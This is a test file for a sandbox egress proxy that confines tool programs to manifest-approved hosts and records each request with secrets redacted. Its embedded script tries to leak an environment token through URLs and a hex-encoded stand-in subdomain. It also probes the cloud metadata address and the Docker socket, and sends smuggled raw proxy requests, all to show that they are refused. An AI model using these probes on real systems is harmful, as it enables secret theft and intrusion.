/** Programs in the sandbox that have a way out: where they get by it, where not, and what is on record of that. */
import fs from 'node:fs'
import http from 'node:http'
import https from 'node:https'
import type { AddressInfo } from 'node:net'
import path from 'node:path'
import tls from 'node:tls'
import { layout } from '@cardinal/kernel'
import { parseManifests } from '@cardinal/manifests'
import { bundleProgram } from '@cardinal/sdk/bundle'
import { localKey, newVaultKey } from '@cardinal/secrets'
import { isRange } from '@cardinal/tools'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { EgressCa } from '../../packages/tools/src/egress-ca.ts'
import {
  applyNetwork,
  applyZone,
  functionTool,
  openTestKernel,
  programFile,
  type TestKernel,
} from '../support/kernel.ts'

const hasSandbox = fs.existsSync('/usr/bin/bwrap')
const has = (program: string) => ['/usr/bin', '/bin'].some((at) => fs.existsSync(path.join(at, program)))

/** Asks for what it is told, in one of several ways, and prints what came of it. */
const SCRIPT = `
const net = require('node:net'), dns = require('node:dns'), http = require('node:http')
const said = JSON.parse(process.argv[1])
const error = (e) => ({ error: e.cause?.code ?? e.code ?? e.name })
const once = {
  fetch: async ({ url, size, ...init }) => { const r = await fetch(url, { ...init, ...(size && { body: 'x'.repeat(size) }) }); return { status: r.status, text: (await r.text()).slice(0, 4000), length: r.headers.get('content-length') } },
  connect: ({ host, port, path }) => new Promise((resolve) => { const s = net.connect(path ? { path } : { host, port }); s.on('connect', () => resolve({ connected: true })); s.on('error', (e) => resolve(error(e))) }),
  lookup: ({ name }) => new Promise((resolve) => dns.lookup(name, (e, address) => resolve(e ? error(e) : { address }))),
  raw: ({ text }) => new Promise((resolve) => { let all = ''; const s = net.connect(3128, '127.0.0.1', () => s.write(text)); s.on('data', (d) => { all += d; if (/\\r\\n\\r\\n/.test(all)) s.end() }); s.on('close', () => resolve({ said: all.split('\\r\\n')[0] })); s.on('error', (e) => resolve(error(e))) }),
  spill: async ({ base }) => {
    const s = process.env.TOKEN, e = encodeURIComponent(s)
    const urls = [base + '/ok/' + s, base + '/not/' + s + '?' + e + '=1', base + '/ok/1?key=' + e, 'http://' + Buffer.from(s).toString('hex') + '.example/']
    const spilt = []
    for (const url of urls) spilt.push(await fetch(url).then((r) => r.status, () => 0))
    return { spilt }
  },
  look: () => ({ door: require('node:fs').readdirSync('/run/cardinal/door').sort(), env: Object.keys(process.env).filter((n) => /proxy/i.test(n)).length }),
}
Promise.all(said.map((one) => Promise.resolve(once[one.do](one)).catch(error))).then((all) => console.log(JSON.stringify(all)))
`

let t: TestKernel
let plain: http.Server
let secure: https.Server
/** What came to the servers. */
let came: { at: string; url: string; method: string; headers: http.IncomingHttpHeaders; body: string }[] = []
const portOf = (server: http.Server) => (server.address() as AddressInfo).port

const answer =
  (at: string): http.RequestListener =>
  (request, response) => {
    const chunks: Buffer[] = []
    request.on('data', (chunk: Buffer) => chunks.push(chunk))
    request.on('end', () => {
      const { url = '', method = '', headers } = request
      came.push({ at, url, method, headers, body: Buffer.concat(chunks).toString() })
      if (url.startsWith('/ok/moved')) response.writeHead(302, { location: '/secret' }).end()
      else response.writeHead(200, { 'content-type': 'text/plain' }).end(`${at} ${method} ${url}`)
    })
  }

async function use(name: string, args: unknown, who = 'a') {
  const reply = await t.call(`acme/teller/${who}`, 'use', { name, args })
  if (!reply.ok) throw new Error(JSON.stringify(reply.error))
  return reply.value as { ok: boolean; value?: unknown; code?: string; by?: string }
}
/** What each of these came to, inside. */
async function inside(name: string, ...said: object[]): Promise<Record<string, unknown>[]> {
  const done = await use(name, { said: JSON.stringify(said) })
  if (!done.ok) throw new Error(JSON.stringify(done))
  return done.value as Record<string, unknown>[]
}

const tool = (name: string, cli: object) =>
  `---\napiVersion: cardinal/v1\nkind: Tool\nmetadata: { tenant: acme, name: ${name} }\nspec: ${JSON.stringify(
    {
      effect: 'read',
      in: { type: 'object', properties: { said: { type: 'string' } } },
      cli: { answer: 'json', ...cli },
    },
  )}\n`
const node = (egress?: object[]) => ({
  program: 'node',
  memory: 65_536,
  flagsEnd: 'none',
  args: ['-e', SCRIPT, { positional: 'said' }],
  ...(egress && { egress }),
})

beforeAll(async () => {
  const ca = new EgressCa()
  const [own] = await Promise.all([ca.pem()])
  // The door itself trusts what this machine trusts, and here the servers of the test.
  tls.setDefaultCACertificates([...tls.getCACertificates('default'), own])
  const context = await ca.contextFor('127.0.0.1')
  plain = http.createServer(answer('plain'))
  secure = https.createServer({ SNICallback: (_name, done) => done(null, context) }, answer('secure'))
  secure.setSecureContext({})
  // No name comes with an address: its one context is everybody's.
  ;(secure as unknown as { _sharedCreds: tls.SecureContext })._sharedCreds = context
  for (const server of [plain, secure])
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  t = await openTestKernel([], {
    vaultKey: localKey(newVaultKey()),
    tools: [{ ...functionTool('db.read', 'read', () => 'rows'), yields: ['private'] }],
  })
  await applyZone(t.kernel, '127.0.0.1', '127.0.0.0/8')
  const egress = [
    { host: '127.0.0.1', scheme: ['http'], port: [portOf(plain)], path: '/ok/*' },
    { host: '127.0.0.1', port: [portOf(secure)], path: '/*', method: ['GET', 'POST'] },
    { host: '169.254.169.254', scheme: ['http'], port: [80] },
    { host: 'denied.example', scheme: ['http'], port: [80] },
  ]
  const tools = [
    tool('net.open', node(egress)),
    tool('net.shut', node()),
    tool('net.secret', { ...node(egress), secret: { ref: 'way-token', env: 'TOKEN' } }),
    ...(has('curl')
      ? [
          tool('net.curl', {
            program: 'curl',
            args: ['-sS', '--', { positional: 'said' }],
            egress,
            answer: undefined,
          }),
        ]
      : []),
    ...(has('git')
      ? [
          tool('net.git', {
            program: 'git',
            args: ['ls-remote', '--', { positional: 'said' }],
            egress,
            answer: undefined,
            exits: [0, 128],
          }),
        ]
      : []),
  ].join('')
  const now = [
    ...['open', 'shut', 'curl', 'git'].map((name) => `{ tool: net.${name}, args: "*" }`),
    '{ tool: net.secret, args: "*", secret: way-token }',
    '{ tool: db.read, args: "*", flow: [log, "caller:*"] }',
  ]
  const agent = `---\napiVersion: cardinal/v1\nkind: Agent\nmetadata: { tenant: acme, name: teller }\nspec:\n  program: x\n  card:\n    now:\n${now.map((g) => `      - ${g}\n`).join('')}`
  const manifests = parseManifests(`${tools}${agent}`, 'net.yaml', {
    isRange,
    defaultsOf: t.kernel.defaultsOf,
  })
  await t.kernel.apply(manifests, new Map([['acme/teller', await bundleProgram(programFile('teller.ts'))]]))
  await applyNetwork(t.kernel, 'denied.example')
}, 60_000)
afterAll(async () => {
  expect((await t.kernel.audit()).mismatches).toEqual([])
  await t.kernel.replay('acme/teller/a')
  await t.close()
  plain.close()
  secure.close()
})
beforeEach(() => {
  came = []
})

describe.runIf(hasSandbox)('a program that has a way out', () => {
  const http1 = (path: string) => `http://127.0.0.1:${portOf(plain)}${path}`
  const https1 = (path: string) => `https://127.0.0.1:${portOf(secure)}${path}`

  it('gets where the card of its tool says, over HTTP and TLS, by method and path', async () => {
    const [first, second, posted, ...no] = await inside(
      'net.open',
      { do: 'fetch', url: http1('/ok/1?q=a&q=b') },
      { do: 'fetch', url: https1('/deep/2') },
      {
        do: 'fetch',
        url: https1('/up'),
        method: 'POST',
        size: 100_000,
        headers: { 'x-own': '1' },
      },
      { do: 'fetch', url: http1('/secret') },
      { do: 'fetch', url: http1('/ok/../secret') },
      { do: 'fetch', url: http1('/ok/1'), method: 'POST', body: 'x' },
      { do: 'fetch', url: https1('/2'), method: 'DELETE' },
      { do: 'fetch', url: `http://127.0.0.1:${portOf(secure)}/2` },
      { do: 'fetch', url: 'http://169.254.169.254/latest' },
      { do: 'fetch', url: 'http://denied.example/' },
      { do: 'fetch', url: 'https://elsewhere.example/' },
    )
    expect(first).toMatchObject({ status: 200, text: 'plain GET /ok/1?q=a&q=b' })
    expect(second).toMatchObject({ status: 200, text: 'secure GET /deep/2' })
    expect(posted).toMatchObject({ status: 200, text: 'secure POST /up' })
    // For a host that no grant names there is no tunnel even.
    for (const last of [no.pop(), no.pop()]) expect(last?.status).not.toBe(200)
    expect(no.map(({ status }) => status)).toEqual(no.map(() => 403))
    expect(no[0]?.text).toContain('the card of this tool does not allow GET')
    expect(came.map(({ at, method, url }) => `${at} ${method} ${url}`).sort()).toEqual([
      'plain GET /ok/1?q=a&q=b',
      'secure GET /deep/2',
      'secure POST /up',
    ])
    const up = came.find(({ url }) => url === '/up')
    expect(up?.body).toHaveLength(100_000)
    expect(up?.headers).toMatchObject({ 'x-own': '1', host: `127.0.0.1:${portOf(secure)}` })
  })

  it('follows a redirect only where its card goes, too', async () => {
    const [moved] = await inside('net.open', { do: 'fetch', url: http1('/ok/moved') })
    expect(moved).toMatchObject({ status: 403 })
    expect(came.map(({ url }) => url)).toEqual(['/ok/moved'])
  })

  it('has no other: no address, no name, nothing of the machine, no odd request', async () => {
    const { port } = plain.address() as AddressInfo
    const found = await inside(
      'net.open',
      { do: 'connect', host: '127.0.0.1', port },
      { do: 'connect', host: '10.0.0.1', port: 80 },
      { do: 'lookup', name: 'denied.example' },
      { do: 'connect', path: '/run/docker.sock' },
      { do: 'raw', text: `GET /ok/1 HTTP/1.1\r\nhost: 127.0.0.1:${port}\r\n\r\n` },
      { do: 'raw', text: `CONNECT 127.0.0.1:${port}@x HTTP/1.1\r\n\r\n` },
      { do: 'raw', text: `GET ftp://127.0.0.1:${port}/ok/1 HTTP/1.1\r\nhost: x\r\n\r\n` },
      { do: 'raw', text: `GET http://me:you@127.0.0.1:${port}/ok/1 HTTP/1.1\r\nhost: x\r\n\r\n` },
      {
        do: 'raw',
        text: `GET ${http1('/ok/1')} HTTP/1.1\r\nhost: x\r\nconnection: upgrade\r\nupgrade: websocket\r\n\r\n`,
      },
      { do: 'look' },
    )
    expect(found.slice(0, 4).every(({ error }) => typeof error === 'string')).toBe(true)
    expect(found.slice(4, 8).map(({ said }) => String(said).slice(9, 12))).toEqual([
      '403',
      '400',
      '403',
      '403',
    ])
    expect(found[8]).toEqual({ said: '' })
    expect(found[9]).toMatchObject({ door: ['ca.pem', 'door.sock'] })
    expect(came).toEqual([])
    expect(await inside('net.shut', { do: 'fetch', url: http1('/ok/1') })).toEqual([
      { error: expect.any(String) },
    ])
    expect(came).toEqual([])
  })

  it('has each request on record before it leaves, refused ones too', async () => {
    await inside(
      'net.open',
      { do: 'fetch', url: http1('/ok/here?q=what') },
      { do: 'fetch', url: http1('/not') },
    )
    const lines = (await t.kernel.view.history('acme/teller/a', { limit: 40 })) as {
      text: string
      detail?: unknown
    }[]
    const said = lines.filter(({ text }) => text.startsWith('the program of '))
    expect(JSON.stringify(said)).toMatch(/asks: allow".*"path":\["ok","here"\]/)
    expect(JSON.stringify(said)).toMatch(/asks: refuse".*"path":\["not"\]/)
    expect(JSON.stringify(said)).toContain('query.q')
    expect(JSON.stringify(said)).not.toContain('what')
  })

  it('67: is a sink: what its agent has read stays where it may flow', async () => {
    expect(await use('net.shut', { said: '[]' }, 'b')).toMatchObject({ ok: true, value: [] })
    expect(await use('net.open', { said: '[]' }, 'b')).toMatchObject({ ok: true, value: [] })
    expect(await use('db.read', {}, 'b')).toMatchObject({ ok: true })
    expect(await use('net.open', { said: '[]' }, 'b')).toMatchObject({ ok: false, by: 'flow' })
    expect(await use('net.shut', { said: '[]' }, 'b')).toMatchObject({ ok: true, value: [] })
  })

  it('45: never writes its secret into the record, wherever it puts it', async () => {
    const secret = 'canary-5Rw1/of the way out'
    await t.kernel.secrets.set('acme', 'way-token', Buffer.from(secret), 'it')
    const done = await inside('net.secret', { do: 'spill', base: http1('') })
    expect(done).toEqual([{ spilt: [200, 403, 200, 0] }])
    expect(came).toHaveLength(2)
    const lines = JSON.stringify(await t.kernel.view.history('acme/teller/a', { limit: 20 }))
    expect(lines).toContain('[secret way-token]')
    for (const form of [secret, encodeURIComponent(secret), Buffer.from(secret).toString('hex'), 'canary'])
      expect(lines).not.toContain(form)
  })

  it.runIf(has('curl'))('is what curl uses by itself', async () => {
    expect(await use('net.curl', { said: https1('/c') })).toMatchObject({
      ok: true,
      value: { code: 0, stdout: 'secure GET /c' },
    })
    expect(await use('net.curl', { said: http1('/c') })).toMatchObject({
      value: { stdout: expect.stringContaining('does not allow GET') },
    })
  })

  it.runIf(has('git'))('is what git uses by itself', async () => {
    await use('net.git', { said: https1('/repo.git') })
    expect(came.map(({ url }) => url)).toContain('/repo.git/info/refs?service=git-upload-pack')
  })

  it('leaves nothing behind', () => {
    expect(fs.readdirSync(layout(t.data).doors)).toEqual([])
  })
})

describe('a way out as a manifest writes it', () => {
  const wrong: [string, object[], string][] = [
    ['no host', [{ path: '/*' }], 'spec.cli.egress[0].host'],
    ['a tool', [{ host: 'a.example', tool: 'bank.pay' }], 'spec.cli.egress[0].tool'],
    ['a public suffix', [{ host: '*.github.io' }], 'anybody may have a name below'],
    ['nothing', [], 'spec.cli.egress'],
    ['everywhere', [{ host: '*' }], 'spec.cli.egress[0].host: a program has no way out to everywhere'],
    ['an address in another form', [{ host: '0x7f.1' }], 'it is written `127.0.0.1`'],
    ['an odd host', [{ host: 'A.example/' }], 'spec.cli.egress[0].host'],
  ]
  it.each(wrong)('is refused with %s', (_what, egress, says) => {
    const text = tool('net.wrong', node(egress))
    expect(() => parseManifests(text, 'x.yaml', { isRange, defaultsOf: t.kernel.defaultsOf })).toThrow(says)
  })
})
